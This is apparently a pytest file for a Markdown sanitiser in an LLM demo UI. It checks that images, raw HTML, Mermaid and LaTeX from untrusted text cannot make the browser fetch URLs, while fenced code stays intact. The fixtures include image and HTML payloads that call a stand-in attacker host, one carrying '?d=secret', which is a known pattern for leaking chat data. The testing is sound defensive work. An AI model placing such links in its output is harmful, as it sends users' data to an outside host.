"""Untrusted text shown as Markdown (ui/common.safe_markdown): nothing in it can make the browser fetch a URL, it
reads as written, fenced code stays as written, and as_typed gives the text back."""

from __future__ import annotations

import random

import pytest

from llm_demo.ui.safe_markdown import WORD_JOINER, as_typed, safe_markdown

EVIL = "https://attacker.example/b.png"
markdown_it = pytest.importorskip("markdown_it")  # a CommonMark parser (Gradio's dependency): a second opinion


def fetching(markdown: str) -> list[str]:
    """What a CommonMark reader would load or pass on as HTML: images and raw HTML, inline or as blocks."""
    found = []
    for token in markdown_it.MarkdownIt("commonmark").enable("table").parse(markdown):
        for item in [token, *(token.children or [])]:
            if item.type in ("image", "html_inline", "html_block"):
                found.append(item.content or item.attrGet("src") or item.type)
    return found


@pytest.mark.parametrize(
    "text",
    [
        f"![x]({EVIL})",
        f"label ![]({EVIL}?d=secret) and ![ref][r]\n\n[r]: {EVIL}",
        f'<img src="{EVIL}">',
        f"<video poster={EVIL}></video> <source src={EVIL}> <svg><image href={EVIL}/></svg>",
        f'<div style="background:url({EVIL})">x</div>',
        f"<!-- hidden -->\n<IMG SRC={EVIL}>",
        f"> quote ![x]({EVIL})\n- item <img src={EVIL}>",
        f"| a | b |\n|---|---|\n| ![x]({EVIL}) | <img src={EVIL}> |",
    ],
)
def test_images_and_html_are_broken_but_read_the_same(text):
    assert fetching(text)  # what a reader would load without the helper
    shown = safe_markdown(text)
    assert fetching(shown) == []
    assert shown.replace(WORD_JOINER, "") == text  # only invisible word joiners were added
    assert safe_markdown(shown) == shown and as_typed(shown) == text


def test_fenced_code_is_kept_as_written_for_copying():
    code = '#include <stdio.h>\nif (a<b && ![1].includes(x)) { html = "<img src=x>"; }\n'
    text = f"Here is code:\n```c\n{code}```\nand ![x]({EVIL}) after it."
    shown = safe_markdown(text)
    assert f"```c\n{code}```" in shown  # not a single character changed inside the fence
    fences = [t for t in markdown_it.MarkdownIt("commonmark").parse(shown) if t.type == "fence"]
    assert [(fence.info, fence.content) for fence in fences] == [("c", code)]
    assert fetching(shown) == []


def test_code_in_a_list_item_is_kept_and_code_a_list_may_end_early_is_broken():
    kept = "1. Install:\n   ```bash\n   pip install x <y>\n\n   ```\n2. Run it."
    assert safe_markdown(kept) == kept
    ended = f"- item\n  ```\n  code\n<img src={EVIL}>\n```\n<img src={EVIL}>"
    shown = safe_markdown(ended)
    assert fetching(shown) == [] and shown.count(f"<{WORD_JOINER}img") == 2


def test_mermaid_diagrams_and_latex_blocks_are_shown_as_text():
    diagram = f"```mermaid\ngraph TD\nA[\"<img src='{EVIL}'>\"]\n```"
    assert safe_markdown(diagram).startswith(f"```{WORD_JOINER}mermaid\n")  # a code block, not a diagram
    assert safe_markdown("$$x$$ and `$$`") == f"${WORD_JOINER}$x${WORD_JOINER}$ and `${WORD_JOINER}$`"


def test_a_fence_inside_a_link_definition_title_cannot_hide_an_image():
    text = f'[x]: http://a "\n```\n"\n![i]({EVIL})\n```'  # the title would swallow the fence's first line
    assert fetching(safe_markdown(text)) == []


PIECES = [
    f"![a]({EVIL})", f"<img src={EVIL}>", "```", "~~~", "   ```", "    ```", "```mermaid", "\n", "\n", "\n\n",
    "\r\n", "> ", "- ", "1. ", "  ", "\t", "[r]: u \"", '"', "$$", "`", "text", "<!--", "-->", "|a|b|\n|-|-|\n",
    "\\", "<div>", "</div>", "[", "]", "(", ")", "!", "<", f"[r]: {EVIL}\n", "![r]", "***", "````", "~~~~",
    " \t```", "```~", "``` ", "```\t", "   - ", "<?", "<![CDATA[", "x", "=", "---",
]  # fmt: skip


def test_random_mixtures_of_hostile_pieces_never_reach_the_reader_as_images_or_html():
    chance = random.Random(23)
    for _ in range(3000):
        text = "".join(chance.choice(PIECES) for _ in range(chance.randint(1, 14)))
        shown = safe_markdown(text)
        assert fetching(shown) == [], repr(text)
        assert as_typed(shown) == text and safe_markdown(shown) == shown, repr(text)
